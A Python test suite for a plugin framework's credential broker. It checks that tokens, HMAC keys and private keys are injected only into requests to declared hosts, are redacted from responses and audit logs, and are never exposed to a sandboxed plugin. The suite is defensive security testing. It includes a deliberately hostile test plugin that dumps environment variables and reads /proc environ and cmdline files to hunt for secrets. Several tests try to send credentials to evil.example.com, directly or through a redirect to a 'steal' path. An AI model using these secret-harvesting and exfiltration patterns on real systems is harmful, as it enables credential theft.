"""Credentials the plugin never sees: the broker injects them into requests to their declared
targets only (every redirect hop checked), takes them out of answers and errors, signs with HMAC
keys without revealing them, and reveals a value only where ``secrets.reveal`` grants it. A real
plugin in a real sandboxed worker, against a real HTTP server on 127.0.0.1 that echoes what it
receives; every way a hostile plugin might get the value back is tried."""

from __future__ import annotations

import hashlib
import hmac
import json
import logging
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar
from urllib.parse import parse_qs, urlsplit

import pytest

from plugport.errors import InvalidInputError, PermissionDeniedError, PluginCallError
from plugport.testing._handle import PluginHandle
from plugport.testing._runner import Runner
from plugport.testing._world import World
from tests.testing._plugins import write_plugin

pytestmark = pytest.mark.slow

TOKEN = "tok-S3cr3t-9f8e7d6c"  # noqa: S105 - a test's stand-in, searched for in every output
KEY = "hmac-K3y-0a1b2c3d"
BASIC = "svc-user:pw-Z9y8x7w6"
OTHER = "other-plugins-T0ken-5566"
INCOMING = "https://hooks.example.com/services/T0001/B0002/incomingS3cret77"

HOSTILE = """
import os


class Main(Plugin):
    @command("c.fetch")
    async def fetch(self, url, credential=None, headers=None):
        response = await self.api.net.fetch(url, headers=headers, credential=credential)
        return {"status": response.status, "body": response.text(), "headers": response.headers,
                "url": response.url}

    @command("c.sign")
    async def sign(self, name, data, alg="hmac-sha256"):
        return await self.api.secrets.sign(name, data, alg)

    @command("c.reveal")
    async def reveal(self, name):
        return await self.api.secrets.reveal(name)

    @command("c.look")
    async def look(self):
        found = dict(os.environ)
        for path in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline"):
            try:
                found[path] = open(path, "rb").read().decode("latin-1")
            except OSError as exc:
                found[path] = type(exc).__name__
        found["config"] = await self.api.config.get()
        return found
"""

MANIFEST = """
[credentials.jira]
kind = "bearer"
hosts = ["api.example.com/rest/"]

[credentials.q]
kind = "query"
param = "api_key"
hosts = ["api.example.com"]

[credentials.hdr]
kind = "header"
header = "X-Api-Key"
hosts = ["api.example.com"]

[credentials.basic]
kind = "basic"
hosts = ["api.example.com"]

[credentials.hook]
kind = "hmac"

[credentials.incoming]
kind = "url"
hosts = ["hooks.example.com/services/"]

[credentials.app]
kind = "private-key"

[permissions]
network = ["api.example.com", "evil.example.com", "hooks.example.com"]
config = true

[contributes]
commands = [
    { id = "c.fetch", title = "Fetch" },
    { id = "c.sign", title = "Sign" },
    { id = "c.reveal", title = "Reveal" },
    { id = "c.look", title = "Look" },
]
"""


class _Echo(BaseHTTPRequestHandler):
    """Answers with everything it was sent (headers, path and query), in the body and in a
    header; ``/redirect?to=URL`` redirects. Records what arrived, for the test."""

    seen: ClassVar[list[dict[str, Any]]] = []

    def do_GET(self) -> None:
        parts = urlsplit(self.path)
        headers = {k.lower(): v for k, v in self.headers.items()}
        record = {"path": parts.path, "query": parse_qs(parts.query), **headers}
        type(self).seen.append({"host": self.headers.get("host"), **record})
        if parts.path == "/rest/redirect":
            self.send_response(302)
            self.send_header("location", parse_qs(parts.query)["to"][0])
            self.send_header("content-length", "0")
            self.end_headers()
            return
        body = json.dumps(record).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("x-echo", str(self.headers.get("authorization")))
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def runner() -> Iterator[Runner]:
    runner = Runner()
    yield runner
    runner.close()


@pytest.fixture
def echo() -> Iterator[str]:
    _Echo.seen = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Echo)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.fixture
def world(runner: Runner, tmp_path: Path) -> Iterator[World]:
    world = World(runner, tmp_path / "home", "strict")
    yield world
    world.close()


@pytest.fixture
def hostile(world: World, tmp_path: Path, echo: str) -> PluginHandle:
    handle = world.load(write_plugin(tmp_path / "plugins", "acme.hostile", HOSTILE, MANIFEST))
    handle.secrets.set("jira", TOKEN)
    handle.secrets.set("q", TOKEN)
    handle.secrets.set("hdr", TOKEN)
    handle.secrets.set("basic", BASIC)
    handle.secrets.set("hook", KEY)
    handle.secrets.set("incoming", INCOMING)
    handle.net.allow_local(echo)
    return handle


def arrived() -> list[dict[str, Any]]:
    return _Echo.seen


@pytest.mark.parametrize(
    ("credential", "path", "where"),
    [
        ("jira", "/rest/issue", lambda r: r["authorization"] == f"Bearer {TOKEN}"),
        ("q", "/search", lambda r: r["query"]["api_key"] == [TOKEN]),
        ("hdr", "/x", lambda r: r["x-api-key"] == TOKEN),
        ("basic", "/x", lambda r: r["authorization"].startswith("Basic ")),
    ],
)
def test_the_server_gets_the_credential_the_plugin_gets_it_redacted(
    hostile: PluginHandle, credential: str, path: str, where: Any
) -> None:
    answer = hostile.command("c.fetch", f"https://api.example.com{path}", credential)
    assert answer["status"] == 200
    [request] = arrived()
    assert where(request)  # injected by the host, on the wire
    shown = json.dumps(answer)
    for form in (TOKEN, BASIC, BASIC.split(":", 1)[1]):
        assert form not in shown  # echoed back, and redacted
    assert "[redacted]" in shown
    assert TOKEN not in answer["url"]


def test_only_the_declared_targets_get_it_and_every_redirect_is_checked(
    hostile: PluginHandle,
) -> None:
    with pytest.raises(PermissionDeniedError, match=r"credential 'jira' may be sent only to"):
        hostile.command("c.fetch", "https://api.example.com/admin", "jira")  # outside /rest/
    with pytest.raises(PermissionDeniedError, match=r"may be sent only to"):
        hostile.command("c.fetch", "https://evil.example.com/rest/x", "jira")
    assert arrived() == []  # refused before anything was sent
    with pytest.raises(PermissionDeniedError, match=r"a redirect to https://evil.example.com"):
        hostile.command(
            "c.fetch",
            "https://api.example.com/rest/redirect?to=https://evil.example.com/rest/steal",
            "jira",
        )
    assert [r["path"] for r in arrived()] == ["/rest/redirect"]  # the redirect was not followed


def test_undeclared_or_clashing_credentials_are_refused(hostile: PluginHandle) -> None:
    with pytest.raises(PermissionDeniedError, match=r"no credential 'github' is declared"):
        hostile.command("c.fetch", "https://api.example.com/rest/x", "github")
    with pytest.raises(PluginCallError, match=r"already has the 'authorization' header"):
        hostile.command(
            "c.fetch", "https://api.example.com/rest/x", "jira", {"Authorization": "Bearer x"}
        )
    with pytest.raises(PermissionDeniedError, match=r"'hook' is a signing key \(hmac or"):
        hostile.command("c.fetch", "https://api.example.com/rest/x", "hook")
    assert arrived() == []


def test_signing_uses_the_key_without_revealing_it(hostile: PluginHandle) -> None:
    signature = hostile.command("c.sign", "hook", "payload")
    assert signature == hmac.new(KEY.encode(), b"payload", hashlib.sha256).hexdigest()
    with pytest.raises(PermissionDeniedError, match=r"no hmac or private-key credential 'jira'"):
        hostile.command("c.sign", "jira", "payload")  # a bearer token is not a signing key
    with pytest.raises(PermissionDeniedError, match=r"secrets.reveal does not include 'hook'"):
        hostile.command("c.reveal", "hook")


def test_nothing_in_the_plugins_process_holds_a_value(hostile: PluginHandle) -> None:
    found = json.dumps(hostile.command("c.look"))
    for value in (TOKEN, KEY, BASIC):
        assert value not in found


def test_another_plugins_credential_is_not_reachable(
    world: World, hostile: PluginHandle, tmp_path: Path
) -> None:
    other = world.load(
        write_plugin(tmp_path / "more", "acme.other", HOSTILE, MANIFEST.replace("hostile", "x"))
    )
    unset = r"no secret 'acme\.other/hook'; the operator sets it with: plugport secret set"
    with pytest.raises(PluginCallError, match=unset):
        other.command("c.sign", "hook", "payload")  # its own, unset: never acme.hostile's


def test_a_secret_that_is_not_set_names_the_command_that_sets_it(
    world: World, tmp_path: Path
) -> None:
    handle = world.load(write_plugin(tmp_path / "plugins", "acme.unset", HOSTILE, MANIFEST))
    with pytest.raises(PluginCallError, match=r"plugport secret set acme\.unset jira"):
        handle.command("c.fetch", "https://api.example.com/rest/x", "jira")


def test_uses_are_audited_without_the_value(
    hostile: PluginHandle, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    hostile.command("c.fetch", "https://api.example.com/rest/issue", "jira")
    hostile.command("c.fetch", "https://api.example.com/search?x=1", "q")
    with pytest.raises(PermissionDeniedError):
        hostile.command("c.fetch", "https://evil.example.com/rest/x", "jira")
    events = hostile.audit
    used = [e for e in events if e.kind == "credential"]
    assert [e.reason for e in used] == [
        "sent credential 'jira' to https://api.example.com/rest/issue (HTTP 200)",
        "sent credential 'q' to https://api.example.com/search?x=1 (HTTP 200)",
    ]
    everything = caplog.text + json.dumps([e.reason for e in events])
    for value in (TOKEN, KEY, BASIC):
        assert value not in everything


def test_the_fake_refuses_a_credential_the_manifest_does_not_declare(
    hostile: PluginHandle,
) -> None:
    with pytest.raises(InvalidInputError, match=r"declares no \[credentials.nope\]"):
        hostile.secrets.set("nope", "x")


def test_a_routed_request_shows_the_credential_was_added_but_not_its_value(
    world: World, tmp_path: Path
) -> None:
    handle = world.load(write_plugin(tmp_path / "plugins", "acme.routed", HOSTILE, MANIFEST))
    handle.secrets.set("jira", TOKEN)
    handle.net.route("GET", "https://api.example.com/rest/issue", json={"key": "OPS-1"})
    answer = handle.command("c.fetch", "https://api.example.com/rest/issue", "jira")
    assert json.loads(answer["body"]) == {"key": "OPS-1"}
    [sent] = handle.net.requests
    assert sent.headers["authorization"] == "REDACTED"
    assert TOKEN not in repr(sent)


def test_a_url_credential_is_fetched_without_the_plugin_knowing_the_url(
    hostile: PluginHandle,
) -> None:
    answer = hostile.command("c.fetch", "", "incoming")
    assert answer["status"] == 200
    [request] = arrived()
    assert request["path"] == "/services/T0001/B0002/incomingS3cret77"  # the operator's URL
    shown = json.dumps(answer)
    assert "incomingS3cret77" not in shown  # the echoed path and the final URL are redacted
    assert answer["url"] == "[redacted]"
    [used] = [e for e in hostile.audit if e.kind == "credential"]
    assert used.reason == "sent credential 'incoming' to [redacted] (HTTP 200)"


def test_a_url_credential_takes_no_url_and_goes_only_to_its_hosts(
    hostile: PluginHandle,
) -> None:
    with pytest.raises(PluginCallError, match=r"kind 'url': it is the whole URL, so leave url"):
        hostile.command("c.fetch", "https://hooks.example.com/services/x", "incoming")
    hostile.secrets.set("incoming", "https://evil.example.com/services/steal-S3cret")
    with pytest.raises(PermissionDeniedError, match=r"may be sent only to") as refused:
        hostile.command("c.fetch", "", "incoming")
    assert "steal-S3cret" not in str(refused.value)
    hostile.secrets.set("incoming", "not a URL at all")
    with pytest.raises(PluginCallError, match=r"secret 'incoming' must be an https URL"):
        hostile.command("c.fetch", "", "incoming")
    assert arrived() == []


def test_a_private_key_signs_a_jwt_without_leaving_the_host(hostile: PluginHandle) -> None:
    import base64

    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    hostile.secrets.set("app", pem.decode())
    signed = hostile.command("c.sign", "app", "header.payload", "rs256")
    raw = base64.urlsafe_b64decode(signed + "=" * (-len(signed) % 4))
    key.public_key().verify(raw, b"header.payload", padding.PKCS1v15(), hashes.SHA256())
    with pytest.raises(PluginCallError, match=r"alg must be one of rs256, es256, ed25519"):
        hostile.command("c.sign", "app", "x", "hmac-sha256")
    with pytest.raises(PluginCallError, match=r"secret 'app' is not a key for es256"):
        hostile.command("c.sign", "app", "x", "es256")
    ec_key = ec.generate_private_key(ec.SECP256R1())
    hostile.secrets.set(
        "app",
        ec_key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        ).decode(),
    )
    assert len(hostile.command("c.sign", "app", "x", "es256")) == 86  # 64 bytes, base64url
    hostile.secrets.set("app", "not a key")
    with pytest.raises(PluginCallError, match=r"not an unencrypted PEM private key"):
        hostile.command("c.sign", "app", "x", "rs256")
    with pytest.raises(PermissionDeniedError, match=r"is a signing key"):
        hostile.command("c.fetch", "https://api.example.com/rest/x", "app")
